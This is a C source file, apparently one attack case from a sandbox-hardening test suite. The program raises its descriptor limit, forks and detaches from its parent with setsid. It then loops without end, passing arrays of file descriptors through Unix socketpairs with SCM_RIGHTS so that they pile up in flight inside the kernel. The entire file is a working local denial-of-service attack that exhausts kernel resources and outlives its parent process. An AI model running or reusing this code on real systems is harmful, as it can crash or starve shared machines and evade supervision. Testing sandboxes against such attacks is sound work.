// Keeps as many descriptors in flight between its sockets as the kernel lets it, in the background.
#include "attack.h"
#include <fcntl.h>
#include <sys/resource.h>
#include <sys/socket.h>
int main(void) {
  struct rlimit limit;
  getrlimit(RLIMIT_NOFILE, &limit);
  limit.rlim_cur = limit.rlim_max;
  setrlimit(RLIMIT_NOFILE, &limit);
  if (fork() != 0) {
    sleep(1);
    return 7;
  }
  setsid();
  int sent[250];
  for (int i = 0; i < 250; ++i) sent[i] = 1;
  for (;;) {
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) != 0) break;
    for (int i = 0; i < 8; ++i) {
      char byte = 0;
      struct iovec data = {&byte, 1};
      char space[CMSG_SPACE(sizeof(sent))] = {0};
      struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1,
                               .msg_control = space, .msg_controllen = sizeof(space)};
      struct cmsghdr* header = CMSG_FIRSTHDR(&message);
      header->cmsg_level = SOL_SOCKET;
      header->cmsg_type = SCM_RIGHTS;
      header->cmsg_len = CMSG_LEN(sizeof(sent));
      memcpy(CMSG_DATA(header), sent, sizeof(sent));
      if (sendmsg(pair[0], &message, MSG_DONTWAIT) < 0 && errno != EAGAIN) {
        sleep(60);
        _exit(0);
      }
    }
    close(pair[0]);
  }
  sleep(60);
  _exit(0);
}
